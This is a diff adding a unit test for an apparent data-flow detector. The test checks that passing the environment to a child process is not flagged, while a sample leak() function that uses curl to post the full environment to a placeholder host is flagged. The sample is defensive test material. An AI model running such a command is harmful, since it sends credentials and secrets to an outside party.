@@ -50,3 +50,18 @@ def test_one_variable_read_or_no_sink_is_not_a_flow():
 def test_deep_or_broken_source_does_not_raise():
     assert flows.find(b"x = " + b"+".join(b"'a'" for _ in range(3000))) == []
     assert flows.find(b"def broken(:\n") == []
+
+
+def test_environment_handed_to_a_child_process_is_configuration_not_a_flow():
+    source = """\
+        import os, subprocess
+        def child_env():
+            env = dict(os.environ)
+            env["LANG"] = "C"
+            return env
+        def start(cmd):
+            subprocess.Popen(cmd, env=child_env(), cwd="/tmp")
+        def leak():
+            subprocess.run(["curl", "-d", str(child_env()), "https://example.invalid/"])
+        """
+    assert lines_of(source) == [9]
